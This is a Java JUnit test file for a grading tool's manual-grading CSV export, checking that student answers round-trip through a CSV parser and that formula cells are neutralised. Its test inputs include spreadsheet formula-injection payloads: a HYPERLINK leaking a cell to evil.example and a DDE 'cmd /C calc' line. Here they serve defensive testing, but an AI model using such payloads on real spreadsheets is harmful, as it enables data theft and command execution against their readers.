package dev.gradecheck.batch;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.google.gson.JsonArray;
import com.google.gson.JsonNull;
import com.google.gson.JsonObject;
import java.io.IOException;
import java.io.StringReader;
import java.util.List;
import java.util.Optional;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * {@code manual.csv}: the answer column comes from each student's {@code report.json} (the text the grading read, or
 * what it found instead), and survives a real CSV parser whole — quotes, commas, newlines — with no cell a
 * spreadsheet would run as a formula.
 */
class ManualSheetTests {

    private static final ManualItems.Item ITEM = new ManualItems.Item("vanishing-gradients", "vanishing-answer",
            "Explain why", 5);

    @ParameterizedTest
    @ValueSource(strings = {
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1",
        "\r\n=1+1",
        "Line one, with a comma.\nLine \"two\" quoted.\r\nLine three;\n\n=not a formula here",
        "\"\"\"",
        "a plain answer"})
    void anAnswerReadsBackWholeThroughACsvParserAndNoCellIsAFormula(String text) throws IOException {
        String sheet = ManualSheet.render(List.of(student("=evil", report(answer("present", text, 0)))),
                ManualItems.of(List.of(ITEM)), ManualGrades.none());

        List<CSVRecord> rows = parse(sheet);
        assertEquals(1, rows.size(), sheet);
        assertEquals(ManualSheet.HEADER, rows.get(0).getParser().getHeaderNames());
        assertEquals(text, Cells.read(rows.get(0).get("answer")));
        assertEquals("=evil", Cells.read(rows.get(0).get("student")));
        for (String cell : rows.get(0).values()) {
            assertTrue(cell.isEmpty() || "=+-@\t\r".indexOf(cell.charAt(0)) < 0, "a formula cell: " + cell);
        }
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
        "unchanged|(no answer: unchanged from the template)",
        "empty|(no answer: its section in ANSWERS.md is empty)",
        "missing_file|(no answer: no ANSWERS.md in the submission)",
        "missing_section|(no answer: no section `vanishing-gradients` in ANSWERS.md)",
        "unreadable|(no answer: ANSWERS.md was not read (a link or not a file))"})
    void anAnswerThatIsNotThereSaysWhatTheGradingFoundInstead(String status, String cell) {
        assertEquals(cell, ManualSheet.answer(report(answer(status, "", 0)), ITEM));
    }

    @Test
    void aCutAnswerSaysSo() {
        assertEquals("Because.\n(cut here: 120 more characters are in ANSWERS.md)",
                ManualSheet.answer(report(answer("present", "Because.", 120)), ITEM));
    }

    @Test
    void aSubmissionNotGradedAndAnItemWithoutAnswerFileHaveNoAnswerText() {
        JsonObject refused = new JsonObject();
        refused.add("exercises", new JsonArray());
        assertEquals("(no answer: the submission was not graded)", ManualSheet.answer(refused, ITEM));
        assertEquals("", ManualSheet.answer(report(JsonNull.INSTANCE), ITEM));
    }

    @Test
    void gradesGivenSoFarAreInTheSheetAndCommentsAreNeutralisedToo() throws Exception {
        java.nio.file.Path file = java.nio.file.Files.createTempFile("manual", ".csv");
        try {
            java.nio.file.Files.writeString(file, "student,exercise,item,points,comment\n"
                    + "ada,vanishing-gradients,vanishing-answer,2.5,\"=1+1, and\nsee me\"\n");
            ManualItems items = ManualItems.of(List.of(ITEM));
            ManualGrades grades = ManualGrades.none().merge(file, java.util.Set.of("ada"), items);
            CSVRecord row = parse(ManualSheet.render(List.of(student("ada", report(answer("present", "x", 0)))),
                    items, grades)).get(0);
            assertEquals("2.5", row.get("points"));
            assertEquals("'=1+1, and\nsee me", row.get("comment"));
            assertEquals("=1+1, and\nsee me", Cells.read(row.get("comment")));
        } finally {
            java.nio.file.Files.deleteIfExists(file);
        }
    }

    private static List<CSVRecord> parse(String sheet) throws IOException {
        try (CSVParser parser = CSVParser.builder().setReader(new StringReader(sheet))
                .setFormat(CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()).get()) {
            return parser.getRecords();
        }
    }

    private static StudentRecord student(String id, JsonObject report) {
        return new StudentRecord(ClassEntry.of(id, "/nowhere"), new Journal.Entry(id, "c", "s", "x", Batch.GRADED, "",
                Optional.empty(), Optional.empty()), report);
    }

    private static JsonObject answer(String status, String text, long cut) {
        JsonObject answer = new JsonObject();
        answer.addProperty("file", "ANSWERS.md");
        answer.addProperty("section", "vanishing-gradients");
        answer.addProperty("path", status.equals("missing_file") ? "" : "ANSWERS.md");
        answer.addProperty("status", status);
        answer.addProperty("text", text);
        answer.addProperty("cut_chars", cut);
        return answer;
    }

    private static JsonObject report(com.google.gson.JsonElement answer) {
        JsonObject item = new JsonObject();
        item.addProperty("id", ITEM.id());
        item.addProperty("title", ITEM.title());
        item.addProperty("points", 5);
        item.addProperty("status", "pending");
        item.add("answer", answer);
        JsonArray manual = new JsonArray();
        manual.add(item);
        JsonObject exercise = new JsonObject();
        exercise.addProperty("id", ITEM.exercise());
        exercise.add("manual", manual);
        JsonArray exercises = new JsonArray();
        exercises.add(exercise);
        JsonObject report = new JsonObject();
        report.add("exercises", exercises);
        return report;
    }
}
